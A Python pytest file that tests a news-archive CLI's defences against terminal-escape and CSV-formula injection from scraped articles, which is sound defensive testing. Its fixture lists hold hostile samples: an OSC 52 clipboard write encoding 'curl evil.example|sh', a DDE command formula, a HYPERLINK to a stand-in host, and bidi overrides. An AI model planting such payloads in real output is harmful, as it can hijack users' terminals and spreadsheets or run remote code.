"""Scraped content cannot inject terminal escapes into CLI output or formulas into CSV
exports: pages with hostile titles, bylines, sections, tags and bodies go through the
real extractor and indexer, then every output command prints them."""

from __future__ import annotations

import csv
import io
import json
import random

import pytest
from click.testing import CliRunner

from crawler.extract import extract
from search_cli.cli import cli
from tests.reliability.conftest import REPEAT, seed_for

pytestmark = [pytest.mark.reliability, pytest.mark.es]

NASTY = (
    "\x1b[2J\x1b[H",  # clear the screen
    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07",  # OSC 52: write the clipboard
    "\x1b]0;pwned\x07",  # set the window title
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # hyperlink
    "\x9b31m",  # C1 CSI
    "\x9d0;title\x9c",  # C1 OSC
    "\u202eevil\u202c",  # bidi override (Trojan Source)
    "\u2066x\u2069",
    "\x07\x08\x7f",
    "\r\x1b[1A",  # move back over the previous line
)
FORMULAS = (
    '=HYPERLINK("http://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1",
)
TERMINAL_BAD = ("\x1b", "\x9b", "\x9d", "\x07", "\x08", "\x7f", "\u202e", "\u2066", "\r")


def _hostile(rng: random.Random) -> str:
    parts = [rng.choice(FORMULAS)] if rng.random() < 0.6 else []
    parts += [rng.choice(NASTY) + rng.choice(["Senate", "budget", "vote"]) for _ in range(3)]
    return " ".join(parts)


def _page(title: str, author: str, section: str, tag: str, body: list[str]) -> str:
    ld = {
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "headline": title,
        "author": [{"@type": "Person", "name": author}],
        "articleSection": section,
        "keywords": [tag],
        "datePublished": "2024-05-01T10:00:00+00:00",
    }
    paragraphs = "".join(f"<p>{p}</p>" for p in body)
    return (
        f'<html><head><title>{title}</title><script type="application/ld+json">'
        f"{json.dumps(ld)}</script></head><body><article><h1>{title}</h1>"
        f"{paragraphs}</article></body></html>"
    )


@pytest.fixture
def hostile_corpus(es_client, es_url, index_prefix, tmp_path):
    from indexer.load import load_records
    from tests.synthetic import new_record

    rng = random.Random(seed_for("hostile content", 0))
    records = []
    for n in range(6 * REPEAT):
        title = _hostile(rng)
        filler = "Lawmakers debated the budget vote in the senate for many hours today. "
        body = [_hostile(rng) + " " + filler * 3 for _ in range(3)]
        url = f"https://news.example/2024/05/01/story-{n}/"
        got = extract(_page(title, _hostile(rng), _hostile(rng), _hostile(rng), body), url)
        record = new_record(n, body_words=20)
        for name in ("title", "body", "authors", "section", "tags", "description"):
            if got.get(name):
                record[name] = got[name]
        record["title"] = record["title"] or title  # keep it hostile even if cleaned
        records.append(record)
    load_records(es_client, records, index_prefix)
    env = {
        "NEWSARCHIVE_ES_URL": es_url,
        "NEWSARCHIVE_INDEX_PREFIX": index_prefix,
        "NEWSARCHIVE_HOME": str(tmp_path),
        "COLUMNS": "200",
    }
    return records, env


def _run(env: dict, *args: str, stdout_only: bool = False) -> str:
    result = CliRunner().invoke(cli, list(args), env=env)
    assert result.exit_code == 0, result.output
    return result.stdout if stdout_only else result.output


def test_no_escape_reaches_the_terminal_and_no_formula_the_csv(hostile_corpus, trial):
    trial.case = "hostile titles and bodies: terminal escapes and CSV formulas"
    records, env = hostile_corpus
    assert any(any(c in r["title"] for c in TERMINAL_BAD) for r in records)
    outputs = {
        "search table": _run(env, "search", "senate OR budget OR vote", "--limit", "100"),
        "search empty query": _run(env, "search", "", "--limit", "100"),
        "timeline": _run(env, "timeline", "", "--interval", "day"),
        "count by author": _run(env, "count", "", "--by", "author", "--top", "100"),
        "count by tag": _run(env, "count", "", "--by", "tag", "--top", "100"),
        "stats": _run(env, "stats"),
    }
    for record in records:
        outputs[f"show {record['id'][:8]}"] = _run(env, "show", record["id"])
    for name, text in outputs.items():
        bad = [c for c in TERMINAL_BAD if c in text]
        assert not bad, (name, bad, text[:2000])
    trial.saw("terminal outputs without a control sequence", len(outputs))

    csvs = {
        "search --format csv": _run(env, "search", "", "--format", "csv", "--limit", "100",
                                    "--fields", "id,title,authors,section,tags,snippet,url", stdout_only=True),
        "export --format csv": _run(env, "export", "", "--format", "csv", stdout_only=True),
    }  # fmt: skip
    cells = 0
    for name, text in csvs.items():
        lines = [line for line in text.splitlines(True) if not line.startswith("# newsarchive")]
        rows = list(csv.reader(io.StringIO("".join(lines))))
        assert len(rows) == len(records) + 1, (name, len(rows))
        for row in rows[1:]:
            for cell in row:
                cells += 1
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
                assert "\x1b" not in cell and "\x9b" not in cell, (name, cell)
    trial.saw("CSV cells, none a formula", cells)
    for fmt in ("json", "jsonl"):
        text = _run(env, "search", "", "--format", fmt, "--limit", "100")
        assert "\x1b" not in text and "\x07" not in text, fmt  # JSON escapes C0 controls
    trial.tries = sum(trial.outcomes.values())


# Characters json.dumps leaves as they are, which a terminal still acts on.
JSON_TERMINAL_BAD = ("\x7f", "\x9b", "\x9c", "\x9d", "\u202e", "\u2066", "\u061c")


def _in_a_terminal(env: dict, *args: str) -> str:
    """``newsarchive ARGS`` with its standard output on a pseudo-terminal."""
    import os
    import pty
    import subprocess

    from tests.reliability.checks import NEWSARCHIVE

    leader, follower = pty.openpty()
    proc = subprocess.Popen(
        [NEWSARCHIVE, *args], stdout=follower, stderr=subprocess.DEVNULL,
        env={**os.environ, **env},
    )  # fmt: skip
    os.close(follower)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 65536)
        except OSError:  # the terminal closed: the command ended
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    assert proc.wait(timeout=60) == 0, args
    return b"".join(chunks).decode("utf-8").replace("\r\n", "\n")


def test_json_escapes_controls_on_a_terminal_and_stays_exact_in_a_pipe(hostile_corpus, trial):
    trial.case = "hostile text as JSON: escaped on a terminal, exact data in a pipe"
    records, env = hostile_corpus
    assert any(c in r["title"] for r in records for c in "\x9b\x9d\u202e")
    commands = [
        ("search", "", "--format", "json", "--limit", "100"),
        ("search", "", "--format", "jsonl", "--limit", "100"),
        ("export", "", "--format", "jsonl"),
        ("count", "", "--by", "author", "--format", "json"),
        ("show", records[0]["id"], "--format", "json"),
    ]
    for args in commands:
        on_tty = _in_a_terminal(env, *args)
        bad = [c for c in (*JSON_TERMINAL_BAD, "\x1b", "\x07") if c in on_tty]
        assert not bad, (args, bad)
        piped = _run(env, *args, stdout_only=True)
        assert any(c in piped for c in JSON_TERMINAL_BAD), args  # a pipe gets exact data
        assert _data(on_tty) == _data(piped), args  # the same data, only written differently
        trial.saw("escaped on a terminal, identical data when piped")


def _data(text: str) -> list:
    """The JSON values of an output (one document, or one a line), without the fields
    that change from run to run."""

    def stable(value):
        if isinstance(value, dict):
            return {
                k: stable(v)
                for k, v in value.items()
                if k not in ("took_ms", "exported_at", "point_in_time_opened_at")
            }
        if isinstance(value, list):
            return [stable(v) for v in value]
        return value

    try:  # --format json: one (indented) document
        return [stable(json.loads(text))]
    except ValueError:  # JSON Lines: one document a line
        return [stable(json.loads(line)) for line in text.splitlines() if line.strip()]
